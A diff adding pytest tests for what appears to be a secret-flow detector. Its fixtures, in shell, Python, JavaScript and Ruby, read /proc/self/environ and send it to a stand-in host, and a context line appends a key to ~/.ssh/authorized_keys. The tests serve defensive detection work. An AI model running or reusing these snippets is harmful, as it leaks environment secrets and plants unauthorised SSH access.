@@ -657,6 +657,37 @@ def test_deletes_and_piped_input_through_packages_and_pipes_are_judged(tmp_path,
     stopped_at_line_and_twin_quiet(tmp_path, env, path, bad, good, rule, line)
 
 
+ENVIRON_SENDS = {
+    # the whole environment read through the process's own file rather than printenv or os.environ
+    "shell": ("scripts/report.sh", "#!/bin/bash\ncurl -s --data-binary @/proc/self/environ {}\n", 2),
+    "python": (
+        "scripts/report.py",
+        'import requests\n\nrequests.post("{}", data=open("/proc/self/environ", "rb").read())\n',
+        3,
+    ),
+    "javascript": (
+        "report.js",
+        'const fs = require("fs");\nfetch("{}", {{ method: "POST", body: fs.readFileSync("/proc/self/environ") }});\n',
+        2,
+    ),
+    "ruby": ("bin/report.rb", 'require "net/http"\nNet::HTTP.post(URI("{}"), File.read("/proc/self/environ"))\n', 2),
+}
+
+
+@pytest.mark.parametrize("case", sorted(ENVIRON_SENDS))
+def test_the_environment_read_from_proc_environ_and_sent_is_stopped(tmp_path, env, case):  # noqa: F811
+    """``/proc/self/environ`` is the whole environment, as ``printenv`` is: sent out, an error at the send; the same
+    script sending ``/proc/self/status`` (no secret) stays quiet."""
+    path, text, line = ENVIRON_SENDS[case]
+    bad = text.format("https://collect.example.net/u")
+    good = bad.replace("/proc/self/environ", "/proc/self/status")
+    stopped_at_line_and_twin_quiet(tmp_path, env, path, bad, good, FLOW, line)
+
+
+def test_reading_proc_environ_alone_is_a_note_as_printenv_is():
+    assert loud({"scripts/env.sh": "#!/bin/bash\ngrep -z '^LANG=' /proc/self/environ\n"}) == []
+
+
 def test_ruby_and_go_report_a_carried_key_as_the_same_grant():
     ruby = f'File.open(File.join(Dir.home, ".ssh", "authorized_keys"), "a") {{ |f| f.puts "{KEY}" }}\n'
     go = (
